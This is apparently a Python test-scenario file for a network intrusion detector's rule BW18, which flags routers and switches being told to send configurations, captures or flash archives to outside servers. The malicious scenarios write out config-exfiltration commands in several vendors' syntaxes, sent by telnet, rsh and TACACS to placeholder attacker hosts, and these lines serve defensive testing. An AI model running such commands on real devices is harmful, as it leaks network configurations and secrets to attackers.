"""BW18: a command tells a device to send its configuration, diagnostic output or captures to a server."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, HQ, OUTSIDE, ROGUE
from bootwarden.traffic import syslog, tacacs
from bootwarden.traffic.telnet import Telnet, rsh
from bootwarden.traffic.wire import Wire

LOGGED = "%PARSER-5-CFGLOG_LOGGEDCMD: User:mallory  logged command:!exec: "


def sent(last: int, file: str, server: str = ROGUE) -> Notice:
    """The notice of one order to device 10.0.1.``last``."""
    return Notice("Config_Exfiltration", f"10.0.1.{last}", server, file)


ABROAD = Expect((sent(81, "edge81-confg", OUTSIDE), *(sent(last, "x.cfg", OUTSIDE) for last in range(82, 90))))
"""Across the border: it speaks where nothing is declared, too."""


@scenario(
    "BW18",
    "malicious",
    raises=[],
    raises_with_site=[("BW18", 5, ATTACKER, DEVICE)],
    site=HQ,
    with_site=Expect(
        (sent(1, "edge1-confg"), sent(1, "tac.pcap"), sent(1, "x.pcap"), sent(1, "tech.txt"), sent(1, "all.tar")),
        evidence=tuple({"device": DEVICE, "actor": ATTACKER, "server": ROGUE, "leaves": True} for _ in range(5)),
    ),
)
def bw18_ordered_by_telnet(wire: Wire) -> None:
    """An attacker has a router send its configuration, two captures, `show tech-support` and its flash to him."""
    session = Telnet(wire, ATTACKER, DEVICE)
    session.login()
    for line in (
        f"copy running-config tftp://{ROGUE}/edge1-confg",
        f"copy bootflash:tac.pcap tftp://{ROGUE}/tac.pcap",
        f"monitor capture mycap export tftp://{ROGUE}/x.pcap",
        f"show tech-support | redirect tftp://{ROGUE}/tech.txt",
        f"archive tar /create tftp://{ROGUE}/all.tar flash:",
    ):
        session.typed(line)
    session.close()


@scenario(
    "BW18",
    "malicious",
    raises=[
        *(("BW18", 5, ATTACKER, f"10.0.1.{last}") for last in (81, 82, 83, 86)),
        *(("BW18", 1542007002, ATTACKER, f"10.0.1.{last}") for last in (84, 87)),
        ("BW18", 1542007004, ATTACKER, "10.0.1.85"),
        ("BW18", 6, ATTACKER, "10.0.1.88"),
        ("BW18", 1542007310, "10.0.1.89", syslog.COLLECTOR),
    ],
    plain=ABROAD,
    site=HQ,
    with_site=ABROAD,
)
def bw18_ordered_in_other_words(wire: Wire) -> None:
    """Across the border: at the device's own prompts, in words of other vendors, by rsh, and told of in syslog."""
    session = Telnet(wire, ATTACKER, "10.0.1.81")
    session.login()
    session.typed("copy run tftp:", "", prompt="Address or name of remote host []? ")
    session.typed(OUTSIDE, "", prompt="Destination filename [edge81-confg]? ")
    session.typed("", "!!")
    session.close()
    for last, prompt, line in (
        (82, "ProCurve# ", f"copy running-config tftp {OUTSIDE} x.cfg"),
        (83, "<core1>", f"tftp {OUTSIDE} put x.cfg"),
        (84, "[admin@mt1] > ", f"/tool fetch upload=yes mode=tftp address={OUTSIDE} src-path=x.cfg"),
        (85, "fgt1 # ", f"execute backup config tftp x.cfg {OUTSIDE}"),
        (86, "root@mx1> ", f"show configuration | save ftp://u:p@{OUTSIDE}/x.cfg"),
        (87, "X440.1 # ", f"upload configuration {OUTSIDE} x.cfg vr VR-Default"),
    ):
        session = Telnet(wire, ATTACKER, f"10.0.1.{last}", prompt=prompt)
        session.tcp.reply(prompt.encode())
        session.typed(line)
        session.close()
    rsh(wire, ATTACKER, "10.0.1.88", f"copy startup-config tftp://{OUTSIDE}/x.cfg")
    syslog.ios(wire, "10.0.1.89", f"{LOGGED}copy running-config tftp://{OUTSIDE}/x.cfg", host="edge89")


@scenario(
    "BW18",
    "benign",
    site=HQ,
    with_site=Expect(
        evidence=(
            {"device": DEVICE, "server": BOOT_SERVER, "file_name": "edge1-confg", "verdict": "expected"},
            {"device": "10.0.1.2", "server": BOOT_SERVER, "file_name": "x.cfg", "verdict": "expected"},
        )
    ),
)
def bw18_backups_ordered(wire: Wire) -> None:
    """Admins back up to the declared server, copy within the flash, look for URLs, and take nothing away."""
    session = Telnet(wire, ADMIN, DEVICE)
    session.login(user="anna")
    for line in (
        f"copy running-config tftp://{BOOT_SERVER}/edge1-confg",
        "copy running-config startup-config",
        "copy flash:a.bin usbflash0:a.bin",
        f"show running-config | include tftp://{ROGUE}",
        f"show archive tftp://{ROGUE}/x",
        "monitor capture mycap export flash:x.pcap",
        f"ping {ROGUE}",
    ):
        session.typed(line)
    session.close()
    session = Telnet(wire, ADMIN, "10.0.1.2", prompt="ProCurve# ")
    session.tcp.reply(b"ProCurve# ")
    session.typed(f"copy running-config tftp {BOOT_SERVER} x.cfg")
    session.close()


AAA = "10.0.9.49"


@scenario(
    "BW18",
    "malicious",
    raises=[("BW18", 1542007452, host, AAA) for host in (DEVICE, "10.0.1.2")],
    plain=Expect((sent(1, "w.cfg", OUTSIDE), sent(2, "w.cfg", OUTSIDE))),
    site=HQ,
    with_site=Expect((sent(1, "w.cfg", OUTSIDE), sent(2, "w.cfg", OUTSIDE))),
)
def bw18_asked_word_by_word(wire: Wire) -> None:
    """Devices without a key ask leave to send their configurations, word by word, one with switches before."""
    for host, command in (
        (DEVICE, f"copy running-config tftp://{OUTSIDE}/w.cfg"),
        ("10.0.1.2", f"copy /noverify nvram:startup-config tftp://{OUTSIDE}/w.cfg"),
    ):
        device = tacacs.Device(wire, host, AAA)
        device.authorize(command, source=ATTACKER)
        device.close()


@scenario("BW18", "benign", site=HQ, with_site=Expect())
def bw18_asked_for_local_copy(wire: Wire) -> None:
    """A device asks leave to copy within itself, and to show a file that speaks of a server."""
    device = tacacs.Device(wire, DEVICE, AAA)
    for command in ("copy running-config startup-config", "copy running-config tftp-notes.cfg", "show tftp-server"):
        device.authorize(command, source=ADMIN)
    device.close()
